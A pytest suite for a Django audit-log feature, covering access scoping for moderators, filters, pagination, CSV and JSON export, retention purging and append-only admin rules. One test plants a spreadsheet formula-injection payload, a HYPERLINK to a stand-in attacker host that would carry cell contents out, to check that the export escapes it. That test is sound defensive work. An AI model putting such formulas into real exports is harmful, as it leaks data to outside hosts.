"""The audit log itself: who may read it in the admin ("Inzage in
verwerkingen"), its CSV and the export command, retention, and that the
Django admin cannot change or delete events."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.management import call_command
from django.utils import timezone

from audit.models import AccessAction, AccessEvent, AccessObject, AccessRole
from audit.services import audit_purge, record_access
from initiatives.permissions import MODERATORS, grant_access
from initiatives.services import initiative_member_add
from tests.factories import InitiativePageFactory, MunicipalityFactory, UserFactory

pytestmark = pytest.mark.django_db
URL = "/admin/verwerkingen/"


def event(*, municipality=None, days_ago=0, purpose="", action=AccessAction.VIEW, **kwargs):
    made = record_access(
        actor=kwargs.pop("actor", None),
        action=action,
        obj_type=kwargs.pop("obj_type", AccessObject.HELP_REQUEST),
        obj_id=kwargs.pop("obj_id", 7),
        role=AccessRole.MODERATOR,
        municipality_id=municipality.pk if municipality else None,
        purpose=purpose,
    )
    if days_ago:
        AccessEvent.objects.filter(pk=made.pk).update(
            at=timezone.now() - dt.timedelta(days=days_ago)
        )
    return made


@pytest.fixture
def towns():
    return MunicipalityFactory(name="Dordrecht"), MunicipalityFactory(name="Hilversum")


def moderator(*municipalities):
    user = UserFactory()
    user.groups.add(Group.objects.get(name=MODERATORS))
    for municipality in municipalities:
        municipality.moderators.add(user)
    return user


def _csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# --- who may read it ---------------------------------------------------------
@pytest.mark.parametrize("query", [{}, {"format": "csv"}])
def test_refused_to_non_staff_editors_and_plain_staff(client, index, query, towns):
    event(municipality=towns[0])
    editor = UserFactory()
    initiative = InitiativePageFactory(parent=index)
    grant_access(initiative)
    initiative_member_add(user=editor, initiative=initiative)
    admin_only = UserFactory()
    admin_only.user_permissions.add(Permission.objects.get(codename="access_admin"))
    staff = UserFactory(is_staff=True)
    for user in (editor, admin_only, staff):
        client.force_login(user)
        response = client.get(URL, query)
        assert response.status_code in (302, 403)
        assert "text/csv" not in response["Content-Type"]
        assert b"Hulpvraag" not in response.content
    client.logout()
    assert client.get(URL, query).status_code == 302  # to the login


def test_a_moderator_sees_only_their_gemeente(client, towns):
    dordrecht, hilversum = towns
    event(municipality=dordrecht, obj_id=101)
    event(municipality=hilversum, obj_id=202)
    event(municipality=None, obj_id=303)  # no gemeente: only for those who see all
    client.force_login(moderator(dordrecht))
    page = client.get(URL)
    assert page.status_code == 200
    ids = [e.obj_id for e in page.context["page_obj"]]
    assert ids == [101]
    rows = _csv(client.get(URL, {"format": "csv"}))
    assert [row[5] for row in rows[1:]] == ["101"]


@pytest.mark.parametrize("query", [{}, {"format": "csv"}])
def test_a_moderator_asking_for_another_gemeente_is_refused(client, towns, query):
    dordrecht, hilversum = towns
    event(municipality=hilversum, obj_id=202)
    client.force_login(moderator(dordrecht))
    response = client.get(URL, {**query, "gemeente": hilversum.pk})
    assert response.status_code == 403
    assert "text/csv" not in response["Content-Type"]
    assert b"202" not in response.content


def test_a_superuser_sees_everything_and_filters(client, towns):
    dordrecht, hilversum = towns
    event(municipality=dordrecht, obj_id=101)
    event(municipality=hilversum, obj_id=202, action=AccessAction.EXPORT)
    event(municipality=None, obj_id=303, days_ago=40)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    ids = lambda **q: sorted(e.obj_id for e in client.get(URL, q).context["page_obj"])  # noqa: E731
    assert ids() == [101, 202, 303]
    assert ids(handeling="export") == [202]
    assert ids(gemeente=hilversum.pk) == [202]
    since = (timezone.localdate() - dt.timedelta(days=10)).isoformat()
    assert ids(van=since) == [101, 202]
    assert ids(soort=AccessObject.SIGNAL) == []


@pytest.mark.parametrize(
    "query",
    [{"van": "gisteren"}, {"handeling": "steal"}, {"van": "2026-05-01", "tot": "2026-04-01"}],
)
def test_bad_filters_get_a_dutch_message_not_a_500(client, towns, query):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get(URL, query)
    assert response.status_code == 400
    assert "Verbeter de keuze" in response.content.decode()


def test_the_page_is_paginated(client):
    for n in range(55):
        event(obj_id=n)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    first = client.get(URL)
    assert len(first.context["page_obj"]) == 50
    assert len(client.get(URL, {"pagina": 2}).context["page_obj"]) == 5


def test_the_menu_item_shows_for_moderators_only(client, towns):
    client.force_login(moderator(towns[0]))
    assert "Inzage in verwerkingen" in client.get("/admin/").content.decode()
    client.force_login(UserFactory(is_staff=True))
    assert "Inzage in verwerkingen" not in client.get("/admin/").content.decode()


# --- the CSV and the command ---------------------------------------------------
def test_the_csv_escapes_formulas(client):
    event(purpose='=HYPERLINK("http://evil.example/?"&A1,"Klik")')
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get(URL, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv(response)
    assert rows[0][0] == "Tijdstip (UTC)"
    assert rows[1][8].startswith("'=")


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_command_output_parses(fmt):
    actor = UserFactory()
    made = event(actor=actor, purpose="moderatie: afgewezen")
    event(days_ago=30, obj_id=8)
    out = io.StringIO()
    since = (timezone.localdate() - dt.timedelta(days=1)).isoformat()
    call_command("export_audit_log", "--since", since, "--format", fmt, stdout=out)
    if fmt == "json":
        rows = json.loads(out.getvalue())
        assert len(rows) == 1
        assert rows[0]["actor_id"] == actor.pk and rows[0]["obj_id"] == made.obj_id
        assert rows[0]["action"] == "view"
        dt.datetime.fromisoformat(rows[0]["at"])
    else:
        rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
        assert len(rows) == 2
        assert rows[1][1] == str(actor.pk) and rows[1][8] == "moderatie: afgewezen"


def test_export_command_refuses_a_bad_date():
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="Geen datum"):
        call_command("export_audit_log", "--since", "gisteren", stdout=io.StringIO())


# --- retention and append-only -------------------------------------------------
def test_retention_deletes_only_old_events(settings):
    settings.AUDIT_RETENTION_DAYS = 30
    old = event(days_ago=31, obj_id=1)
    recent = event(days_ago=29, obj_id=2)
    assert audit_purge() == 1
    assert list(AccessEvent.objects.values_list("pk", flat=True)) == [recent.pk]
    assert not AccessEvent.objects.filter(pk=old.pk).exists()
    out = io.StringIO()
    call_command("purge_audit_log", stdout=out)
    assert "0 verwerkingen verwijderd" in out.getvalue()


def test_the_django_admin_cannot_change_or_delete_events(client):
    made = event()
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    base = f"/django-admin/audit/accessevent/{made.pk}"
    assert client.get("/django-admin/audit/accessevent/").status_code == 200
    client.post(f"{base}/change/", {"purpose": "weg"})
    response = client.post(f"{base}/delete/", {"post": "yes"})
    assert response.status_code == 403
    made.refresh_from_db()
    assert made.purpose == ""
    assert client.get("/django-admin/audit/accessevent/add/").status_code == 403


def test_an_event_holds_no_personal_content_columns():
    names = {f.name for f in AccessEvent._meta.get_fields()}
    assert names == {
        "id",
        "at",
        "actor_id",
        "role",
        "action",
        "obj_type",
        "obj_id",
        "subject_id",
        "municipality_id",
        "purpose",
        "request_id",
    }
